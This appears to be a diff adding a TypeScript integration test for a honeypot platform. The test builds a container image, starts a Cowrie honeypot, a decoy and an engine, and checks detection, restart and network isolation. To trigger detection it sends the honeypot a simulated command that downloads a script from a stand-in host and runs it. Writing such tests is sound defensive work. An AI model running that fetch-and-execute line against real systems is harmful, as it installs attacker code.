@@ -1,0 +1,157 @@
+import { cpSync, mkdtempSync, rmSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { type Composed, readCompose } from './compose.ts';
+import { ensureBases } from './container-bases.ts';
+import { attack, root, run, until, untilOnApi } from './support.ts';
+
+const image = 'localhost/cerberusmesh:test';
+const imageMegabytesMax = 350;
+
+/**
+ * Claim: the image builds, is at most 350 MB, and the composed system sees, assesses and answers a real attack, with Cowrie
+ * shut off from the rest. Needs root, podman and python3-yaml (`apt-get install podman buildah python3-yaml debootstrap openssh-client`).
+ */
+export async function proveContainers(): Promise<object> {
+  const bases = ensureBases();
+  const [buildSeconds] = await timed(() => build(bases));
+  const imageMegabytes = megabytesOf(image);
+  const folder = mkdtempSync(join(tmpdir(), 'cerberus-compose-'));
+  const [page, ssh, decoy] = [await freePort(), await freePort(), await freePort()];
+  for (const path of ['compose.yaml', 'make-secrets.sh', 'cowrie']) {
+    cpSync(join(root, 'deploy', path), join(folder, path), { recursive: true });
+  }
+  run('sh', [join(folder, 'make-secrets.sh')]);
+  const composed = readCompose(join(folder, 'compose.yaml'), `cerberus-test-${process.pid}`, {
+    CERBERUS_IMAGE: image,
+    POSTGRES_IMAGE: bases.get('postgres:18-bookworm') ?? '',
+    REDIS_IMAGE: bases.get('redis:7-bookworm') ?? '',
+    COWRIE_IMAGE: bases.get('cowrie/cowrie:latest') ?? '',
+    CERBERUS_PAGE: `127.0.0.1:${page}`,
+    COWRIE_SSH: `127.0.0.1:${ssh}`,
+    DECOY_SSH: `127.0.0.1:${decoy}`,
+    DECOY_TELNET: `127.0.0.1:${await freePort()}`,
+    DECOY_HTTP: `127.0.0.1:${await freePort()}`,
+  });
+  try {
+    const seen = await visit(composed, `http://127.0.0.1:${page}`, ssh);
+    const stopped = await restart(composed, `http://127.0.0.1:${page}`);
+    await composed.up('redis');
+    await composed.up('decoy');
+    const words = await attack({ port: decoy, command: 'id; # decoy alone' });
+    return {
+      bases: [...bases.values()],
+      buildSeconds,
+      ...{ imageMegabytes, imageMegabytesMax, ...seen, ...stopped },
+      decoyAlone: words.includes('uid=0(root)'),
+    };
+  } finally {
+    composed.remove();
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+function build(bases: ReadonlyMap<string, string>): void {
+  const files = ['-f', 'deploy/Dockerfile', '--ignorefile', 'deploy/Dockerfile.dockerignore'];
+  const cache = run('npm', ['config', 'get', 'cache']).trim();
+  // Health checks are Docker's and not OCI's; the cache only saves downloads.
+  const from = [
+    `--build-arg=NODE_IMAGE=${bases.get('node:24-bookworm-slim')}`,
+    `--build-arg=BASE_IMAGE=${bases.get('debian:bookworm-slim')}`,
+  ];
+  const options = ['--format=docker', '--network=host', '--pull=never', '--volume', `${cache}:/root/.npm`];
+  run('podman', ['build', '--quiet', ...files, ...from, ...options, '-t', image, root]);
+}
+
+async function visit(composed: Composed, url: string, ssh: number): Promise<object> {
+  const [readySeconds] = await timed(async () => {
+    for (const service of ['database', 'ml', 'engine', 'cowrie']) await composed.up(service);
+    await untilHealthy(url);
+  });
+  const token = await until('the first token', 20, () => /(cm_\S+)/.exec(logsOf(composed, 'engine'))?.[1]);
+  const words = 'cd /tmp; wget http://203.0.113.9/composed.sh; chmod +x composed.sh; ./composed.sh';
+  await until('a shell in Cowrie', 60, async () => {
+    await attack({ port: ssh, command: words });
+    return true;
+  });
+  const [onApiSeconds] = await timed(() => untilOnApi(url, token, 'composed.sh', 30));
+  const adaptation = await until('a verified adaptation', 60, async () => {
+    const answer = await fetch(`${url}/api/adaptations`, { headers: { authorization: `Bearer ${token}` } });
+    return (await answer.text()).includes('"verified"') ? true : undefined;
+  });
+  const page = (await (await fetch(url)).text()).includes('<div id="root"');
+  return {
+    readySeconds,
+    onApiSeconds,
+    adaptationVerified: adaptation,
+    page,
+    cowrieReaches: reachableFromCowrie(composed),
+  };
+}
+
+/** SIGTERM ends it in order; then it is ready again with the database that is there. */
+async function restart(composed: Composed, url: string): Promise<object> {
+  const engine = composed.nameOf('engine');
+  const [stopSeconds] = await timed(() => void run('podman', ['stop', '--time=30', engine]));
+  const exitCode = Number(run('podman', ['inspect', '--format={{.State.ExitCode}}', engine]));
+  const [readyAgainSeconds] = await timed(async () => {
+    run('podman', ['start', engine]);
+    await untilHealthy(url);
+  });
+  return { stopSeconds, exitCode, readyAgainSeconds };
+}
+
+/** Every address and port of ours that a Cowrie taken over could talk to: none. */
+function reachableFromCowrie(composed: Composed): string[] {
+  const ports = { database: 5432, ml: 8001, engine: 3000 };
+  const targets = Object.entries(ports).flatMap(([service, port]) =>
+    addressesOf(composed.nameOf(service)).map((address) => [service, address, port]),
+  );
+  const script = `
+import json, socket, sys
+for service, address, port in json.loads(sys.argv[1]):
+    try:
+        socket.create_connection((address, port), 1.5)
+        print(service, address)
+    except OSError:
+        pass`;
+  const python = ['/cowrie/cowrie-env/bin/python3', '-c', script, JSON.stringify(targets)];
+  if (targets.length < 5) throw new Error(`Too few addresses to try: ${JSON.stringify(targets)}`);
+  return run('podman', ['exec', composed.nameOf('cowrie'), ...python])
+    .split('\n')
+    .filter(Boolean);
+}
+
+function addressesOf(container: string): string[] {
+  const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}';
+  return run('podman', ['inspect', `--format=${format}`, container])
+    .trim()
+    .split(/\s+/);
+}
+
+async function untilHealthy(url: string): Promise<void> {
+  await until(`${url}/health`, 120, async () => ((await fetch(`${url}/health`)).ok ? true : undefined));
+}
+
+function logsOf(composed: Composed, service: string): string {
+  return run('podman', ['logs', composed.nameOf(service)], { stdio: ['ignore', 'pipe', 'ignore'] });
+}
+
+function megabytesOf(name: string): number {
+  return Math.round(Number(run('podman', ['image', 'inspect', '--format={{.Size}}', name])) / 1e6);
+}
+
+async function timed(work: () => Promise<void> | void): Promise<[number]> {
+  const began = performance.now();
+  await work();
+  return [Number(((performance.now() - began) / 1000).toFixed(1))];
+}
+
+async function freePort(): Promise<number> {
+  const server = createServer();
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const address = server.address();
+  await new Promise((resolve) => server.close(resolve));
+  return typeof address === 'object' && address !== null ? address.port : 0;
+}
